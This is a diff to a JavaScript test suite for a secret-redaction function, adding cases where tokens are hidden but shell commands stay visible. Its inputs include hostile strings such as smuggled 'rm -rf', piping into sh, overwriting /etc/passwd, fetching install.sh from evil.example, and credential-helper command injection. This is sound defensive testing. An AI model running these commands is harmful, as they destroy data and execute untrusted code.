@@ -69,7 +69,6 @@ describe('secrets by what they look like', () => {
     ['Google', `AIza${'a1B2c'.repeat(7)}`],
     ['npm', `npm_${'a1B2'.repeat(9)}`],
     ['JWT', `eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxMjM0NTY3ODkwIn0.${'sig-_'.repeat(6)}`],
-    ['PEM', `-----BEGIN RSA PRIVATE KEY-----\nMIIE${'a'.repeat(40)}\n-----END RSA PRIVATE KEY-----`],
     ['Telegram', `123456789:AA${'a1B2c'.repeat(7)}`],
   ])('hides a token of %s in the middle of a text, and nothing else', (_, token) => {
     expect(hideInText(`before ${token} after`)).toBe(`before ${REDACTED} after`);
@@ -87,6 +86,8 @@ describe('secrets by what they look like', () => {
     [`got ghp_${'a1B2'.repeat(9)}: "api_key": "correct horse"`, 'got [redacted]: "api_key": "[redacted]"'],
     ["login --password 'correct horse' now", "login --password '[redacted]' now"],
     ['{"text":"{\\"password\\":\\"correct horse\\"}"}', '{"text":"{\\"password\\":\\"[redacted]\\"}"}'],
+    ['Authorization: Bearer abc123', 'Authorization: Bearer [redacted]'],
+    ['password: letmein', 'password: [redacted]'],
     ['PASSWORD=pa$$word1 x', 'PASSWORD=[redacted] x'],
     ['signature=9f86d081884c7d659a2feaa0c55ad015', 'signature=[redacted]'],
     ['echo $TOKEN; echo token=${TOKEN}', 'echo $TOKEN; echo token=${TOKEN}'],
@@ -112,16 +113,75 @@ describe('what is no secret stays in sight', () => {
     [`echo "password='$(reboot)'"`, '$(reboot)'],
     ['login --token ab`reboot`', '`reboot`'],
     ['curl https://ann:pw`reboot`@host', '`reboot`'],
+    ['git clone https://x:y;rm$IFS-rf$IFS~;echo@github.com/x.git', ';rm$IFS-rf$IFS~;'],
+    ['curl http://a:b|sh;@x', '|sh;'],
+    ['curl http://a:b>/etc/passwd@x', '>/etc/passwd'],
+    ['curl -s http://evil.example:8080?@github.com/install.sh', ':8080?@'],
+    ['curl -s http://evil.example:8080#@github.com/install.sh', ':8080#@'],
+    ['curl -s http://evil.example:8080\\@github.com/install.sh', ':8080\\@'],
+    ['echo --token\n/tmp/evil.sh', '/tmp/evil.sh'],
+    ['echo --token\nreboot2', 'reboot2'],
+    ['echo --token\r\nreboot2', 'reboot2'],
+    ['password=\n/tmp/evil.sh', '/tmp/evil.sh'],
+    ['password:\nreboot2', 'reboot2'],
+    ['PASSWORD= /tmp/evil.sh', '/tmp/evil.sh'],
+    ['PASSWORD= reboot', 'reboot'],
+    ['PASSWORD="" reboot', 'reboot'],
+    ['env -u "password=" /tmp/evil.sh "x"', '/tmp/evil.sh'],
+    ['env -u "a password=" reboot "x"', 'reboot'],
+    ['env -u password=$IFS/tmp/evil.sh', '/tmp/evil.sh'],
+    ['$(password=abc)/tmp/evil.sh', '/tmp/evil.sh'],
+    ['env {-i,token=abc}/tmp/evil.sh', '/tmp/evil.sh'],
+    ['env -u token /tmp/evil.sh', '/tmp/evil.sh'],
+    ['env -u --token /tmp/evil.sh', '/tmp/evil.sh'],
+    ['env -u --token reboot', 'reboot'],
+    ['env -u --token python3', 'python3'],
+    ["env -u ';' -u --token python3", 'python3'],
+    ['exec -a password: Reboot2', 'Reboot2'],
+    ['time -f token /tmp/evil.sh', '/tmp/evil.sh'],
+    ['sudo -u basic /home/me/evil.sh', '/home/me/evil.sh'],
+    ['sudo -u bearer evil-installer', 'evil-installer'],
+    ['bash -c "env -u token evil-installer"', 'evil-installer'],
+    ['ssh -o authorization: basic /tmp/evil.sh', '/tmp/evil.sh'],
+    ['ssh -o authorization: basic reboot2', 'reboot2'],
+    [`echo ${key}\n/home/ubuntu/downloads/installer`, '/home/ubuntu/downloads/installer'],
+    [`echo ${key}\n/home/ubuntu/${'downloads/'.repeat(4)}installer`, '/installer'],
+    [`echo ${key}\nMIIEvQIBADANBgkqhkiG9w0BAQEFAASC\nreboot\n-----END PRIVATE KEY-----`, '\nreboot\n'],
+    [`echo ${key}\nMIIEvQIBADANBgkqhkiG9w0BAQEFAASC\nhome/ubuntu/downloads/installer`, 'installer'],
+    ['git -c credential.helper=!reboot push', '=!reboot'],
+    ['restic --password-command=/tmp/evil.sh backup', '=/tmp/evil.sh'],
+    ['npm install sk-evil-package-that-steals', 'sk-evil-package-that-steals'],
+    ['npm install sk-proj-evil-package-that-steals', 'sk-proj-evil-package-that-steals'],
+    [
+      'npm install xapp-evil-installer glpat-evil-package-steals',
+      'xapp-evil-installer glpat-evil-package-steals',
+    ],
+    ['pip install pypi-evil-package-with-a-name-that-is-long', 'pypi-evil-package-with-a-name-that-is-long'],
   ])('shows what a shell would run in %j', (text, shown) => {
     expect(hideInText(text)).toContain(shown);
   });
 
-  it('hides a key in lines or in one, and one that is cut off', () => {
-    const body = `${'MIIEv'.repeat(12)}\n${'c0Vr/'.repeat(12)}\nAb==`;
-    const pem = `${key}\n${body}\n-----END PRIVATE KEY-----`;
-    expect(hideInText(`x ${pem} y`)).toBe(`x ${REDACTED} y`);
-    expect(hideInText(`x ${pem.replaceAll('\n', '\\n')} y`)).toBe(`x ${REDACTED} y`);
-    expect(hideInText(pem.slice(0, 80))).toBe(REDACTED);
+  it('hides a key in lines or in one, and one that is cut off, line by line', () => {
+    const lines = [
+      'MIIEvQIBADANBgkqhkiG9w0BAQEFAASCBKcwggSjAgEAAoIBAQC7VJTUt9Us8cKj',
+      'MzEfYyjiWA4R4/M2bS1GB4t7NXp98C3SC6dVMvDuictGeurT8jNbvJZHtCSuYEvu',
+    ];
+    const pem = [key, ...lines, 'Ab==', '-----END PRIVATE KEY-----'];
+    const shown = [key, REDACTED, REDACTED, 'Ab==', '-----END PRIVATE KEY-----'];
+    for (const end of ['\n', '\r\n', '\\n', '\n    ']) {
+      expect(hideInText(`x ${pem.join(end)} y`)).toBe(`x ${shown.join(end)} y`);
+      expect(hideInText(pem.slice(0, 2).join(end))).toBe(shown.slice(0, 2).join(end));
+    }
+  });
+
+  it('shows commands and paths under telling and hinting names', () => {
+    const value = {
+      apiKeyHelper: '/tmp/evil.sh',
+      credential: { helper: '!reboot' },
+      code: '/tmp/evil2/installer.sh',
+      key: 'python3.11-installer-run',
+    };
+    expect(hideSecrets(value)).toEqual({ value, hasSecrets: false });
   });
 
   it('hides a value by any name of its path', () => {
@@ -176,6 +236,9 @@ describe('cost and digest', () => {
     'password="',
     '=',
     '--a ',
+    '--token ',
+    'env -u password: ',
+    '-----BEGIN PRIVATE KEY-----\nMIIEvQIBADANBgkqhkiG',
   ])('I-7: reads a megabyte of %j once', (piece) => {
     const text = piece.repeat(Math.ceil(1_000_000 / piece.length));
     // Backtracking would take minutes; the time limit of the test notices.
